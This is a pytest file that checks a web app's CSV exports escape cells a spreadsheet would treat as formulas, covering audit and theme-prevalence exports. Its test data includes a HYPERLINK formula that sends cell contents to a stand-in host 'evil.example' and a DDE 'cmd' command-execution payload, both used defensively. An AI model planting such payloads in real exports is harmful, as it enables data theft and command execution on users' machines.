"""Every CSV export goes through core/csvout.py: a cell that a spreadsheet
would run as a formula is written as text."""
import csv
import io

import pytest

from accounts.models import User
from extensions import db
from tests import factories
from tests.conftest import sign_in
from tests.themes.helpers import make_run_by_hand

EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("evil", EVIL)
def test_safe_cell_neutralises_formula_starts(evil):
    from core.csvout import safe_cell

    assert safe_cell(evil) == "'" + evil
    assert safe_cell("plain words") == "plain words" and safe_cell(-3) == -3


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_a_formula_typed_as_a_login_email_is_text_in_audit_csv(app, users):
    anonymous = app.test_client()
    anonymous.post("/login", data={"email": EVIL[0], "password": "whatever-it-is-1"})
    admin = app.test_client()
    sign_in(admin, users["admin"].email)
    cells = _cells(admin.get("/admin/audit.csv").get_data(as_text=True))
    assert "'" + EVIL[0].lower() in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_a_formula_theme_label_is_text_in_prevalence_csv(app, users):
    with app.app_context():
        reporter = db.session.get(User, users["reporter"].id)
        story = factories.make_story(reporter, title="One", role="service_user")
        run = make_run_by_hand({"=cmd|' /C calc'!A0": [(story, "The hostel gave me notice.")]})
        run_id = run.id
    client = app.test_client()
    sign_in(client, users["manager"].email)
    cells = _cells(client.get(f"/themes/runs/{run_id}/prevalence.csv").get_data(as_text=True))
    assert "'=cmd|' /C calc'!A0" in cells
